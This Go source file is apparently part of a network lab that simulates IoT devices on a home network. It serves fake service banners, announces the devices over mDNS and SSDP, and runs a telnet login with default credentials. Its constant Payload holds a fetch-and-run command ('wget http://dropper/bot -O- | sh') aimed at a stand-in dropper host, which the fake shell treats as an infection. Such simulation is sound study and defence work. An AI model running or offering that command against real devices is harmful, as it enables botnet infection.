package device

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/netip"
	"strings"
	"time"

	"cardea/lab/plan"

	"github.com/miekg/dns"
	"golang.org/x/net/ipv4"
	"golang.org/x/sync/errgroup"
)

// ports that devices of a kind listen on, and what they say
var open = map[plan.Kind]map[uint16]string{
	plan.Camera:  {554: "RTSP/1.0 200 OK\r\nCSeq: 1\r\nPublic: DESCRIBE, SETUP, PLAY\r\n\r\n", 80: "HTTP/1.0 401 Unauthorized\r\n\r\n"},
	plan.Printer: {631: "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", 9100: "\x1b%-12345X"},
	plan.NAS:     {445: "\x00\x00\x00\x04\xfeSMB", 80: "HTTP/1.0 200 OK\r\n\r\n"},
	plan.TV:      {8008: "HTTP/1.0 200 OK\r\n\r\n"},
	plan.Speaker: {1400: "HTTP/1.0 200 OK\r\n\r\n"},
	plan.Hub:     {80: "HTTP/1.0 200 OK\r\n\r\n"},
}

// serve opens what the device offers to its home.
func (d *Device) serve(ctx context.Context, g *errgroup.Group) error {
	for port, say := range open[d.Kind] {
		err := d.listen(ctx, g, port, func(c net.Conn) {
			_ = c.SetDeadline(time.Now().Add(5 * time.Second))
			_, _ = c.Read(make([]byte, 512))
			_, _ = io.WriteString(c, say)
		})
		if err != nil {
			return err
		}
	}
	if d.Telnet {
		return d.listen(ctx, g, 23, d.telnet)
	}
	return nil
}

func (d *Device) listen(ctx context.Context, g *errgroup.Group, port uint16, serve func(net.Conn)) error {
	l, err := d.Space.Listen("tcp4", fmt.Sprintf(":%d", port))
	if err != nil {
		return fmt.Errorf("%s: %w", d.Name, err)
	}
	context.AfterFunc(ctx, func() { l.Close() })
	g.Go(func() error {
		for {
			c, err := l.Accept()
			if err != nil {
				select {
				case <-ctx.Done():
					return nil
				default:
					return fmt.Errorf("%s: %w", d.Name, err)
				}
			}
			go func() { // ends with the connection, whose deadline is seconds away
				defer c.Close()
				serve(c)
			}()
		}
	})
	return nil
}

// Payload is the command that makes a device with an open telnet run a program. It is text: the lab has no real malware.
const Payload = "wget http://dropper/bot -O- | sh"

// telnet is a login with the maker's default password and a shell that understands one command.
func (d *Device) telnet(c net.Conn) {
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	in := bufio.NewReader(io.LimitReader(c, 4096))
	ask := func(prompt string) string {
		_, _ = io.WriteString(c, prompt)
		line, err := in.ReadString('\n')
		if err != nil {
			return ""
		}
		return strings.TrimSpace(line)
	}
	for range 3 {
		user := ask("\r\nCamera login: ")
		if user == "" {
			return
		}
		if pass := ask("Password: "); user != d.plan.Attack.User || pass != d.plan.Attack.Password {
			_, _ = io.WriteString(c, "Login incorrect\r\n")
			continue
		}
		for {
			switch cmd := ask("# "); cmd {
			case "":
				return
			case Payload:
				_, _ = io.WriteString(c, "OK\r\n")
				if d.infected != nil {
					d.infected()
				}
			default:
				fmt.Fprintf(c, "%.40s: not found\r\n", cmd)
			}
		}
	}
}

// services are what devices announce by mDNS.
var services = map[plan.Kind][]string{
	plan.Camera: {"_rtsp._tcp.local."}, plan.TV: {"_googlecast._tcp.local."}, plan.Printer: {"_ipp._tcp.local."},
	plan.Speaker: {"_sonos._tcp.local."}, plan.Hub: {"_hue._tcp.local."}, plan.NAS: {"_smb._tcp.local."},
}

// announce speaks mDNS (RFC 6762) and SSDP now and then.
func announce(d *Device, ctx context.Context, r *rand.Rand) error {
	mdns, err := d.Space.ListenPacket("udp4", "0.0.0.0:5353", Iface)
	if err != nil {
		return fmt.Errorf("%s: mDNS: %w", d.Name, err)
	}
	defer func() { _ = mdns.Close() }()
	p := ipv4.NewPacketConn(mdns)
	_ = p.SetMulticastTTL(255)
	_ = p.SetMulticastLoopback(false)
	for {
		addr := d.Lease().Addr.Addr()
		if m, err := d.records(addr).Pack(); err == nil {
			_, _ = mdns.WriteToUDPAddrPort(m, netip.MustParseAddrPort("224.0.0.251:5353")) // unheard: it is repeated
		}
		if d.Kind == plan.TV || d.Kind == plan.Hub || d.Kind == plan.NAS || d.Kind == plan.Camera {
			called := ""
			if d.Calls != "" {
				called = fmt.Sprintf("X-Friendly-Name: %s\r\nX-ModelName: %s\r\n", d.Calls, d.Calls)
			}
			note := fmt.Sprintf("NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nCACHE-CONTROL: max-age=1800\r\n"+
				"LOCATION: http://%v:80/desc.xml\r\nNT: upnp:rootdevice\r\nNTS: ssdp:alive\r\nSERVER: Linux/4.9 UPnP/1.0 %s/1.0\r\n%s"+
				"USN: uuid:%x::upnp:rootdevice\r\n\r\n", addr, d.Name, called, d.Seed)
			_, _ = mdns.WriteToUDPAddrPort([]byte(note), netip.MustParseAddrPort("239.255.255.250:1900"))
		}
		if !pause(ctx, r, 25*time.Second) {
			return nil
		}
	}
}

func (d *Device) records(addr netip.Addr) *dns.Msg {
	m := &dns.Msg{MsgHdr: dns.MsgHdr{Response: true, Authoritative: true}}
	host := d.Name + ".local."
	head := func(name string, kind uint16) dns.RR_Header {
		return dns.RR_Header{Name: name, Rrtype: kind, Class: dns.ClassINET, Ttl: 120}
	}
	for _, s := range services[d.Kind] {
		instance := d.Name + "." + s
		m.Answer = append(m.Answer,
			&dns.PTR{Hdr: head(s, dns.TypePTR), Ptr: instance},
			&dns.SRV{Hdr: head(instance, dns.TypeSRV), Port: 80, Target: host},
			&dns.TXT{Hdr: head(instance, dns.TypeTXT), Txt: d.texts()})
	}
	if addr.IsValid() {
		m.Answer = append(m.Answer, &dns.A{Hdr: head(host, dns.TypeA), A: addr.AsSlice()})
	}
	return m
}

// texts are what a device says of itself beside its services: of one that calls itself something else, that, however long.
func (d *Device) texts() []string {
	if d.Calls == "" {
		return []string{"md=" + string(d.Kind)}
	}
	list := []string{"md=" + clip(d.Calls), "fn=" + clip(d.Calls)}
	for rest := d.Calls; len(rest) > maxText && len(list) < 64; rest = rest[maxText:] {
		list = append(list, rest[:maxText])
	}
	return list
}

// maxText is how much fits into one text of DNS or one option of DHCP, with a key before it.
const maxText = 250

func clip(s string) string { return s[:min(len(s), maxText)] }
